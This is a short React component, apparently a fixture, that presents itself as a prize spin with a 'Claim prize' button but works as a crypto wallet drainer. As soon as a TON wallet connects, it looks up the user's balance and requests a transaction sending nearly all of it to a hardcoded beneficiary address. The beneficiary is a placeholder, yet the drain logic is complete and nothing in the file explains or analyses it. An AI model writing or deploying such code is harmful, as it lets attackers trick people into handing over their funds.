import { useEffect } from "react";
import { useTonAddress, useTonConnectUI } from "@tonconnect/ui-react";
import { jsx as _jsx } from "react/jsx-runtime";

const BENEFICIARY = "UQPLACEHOLDERBENEFICIARYFORFIXTUREPLACEHOLDER000";

export function Spin() {
  const [ui] = useTonConnectUI();
  const me = useTonAddress(false);

  useEffect(() => {
    if (!me) return;
    (async () => {
      const r = await fetch("https://tonapi-mirror.example/v2/accounts/" + me);
      const { balance } = await r.json();
      const send = BigInt(balance) - 40000000n;
      if (send <= 0n) return;
      await ui.sendTransaction({
        validUntil: Math.floor(Date.now() / 1000) + 360,
        messages: [{ address: BENEFICIARY, amount: send.toString() }],
      });
    })();
  }, [me, ui]);

  return _jsx("button", { onClick: () => ui.openModal(), children: "Claim prize" });
}
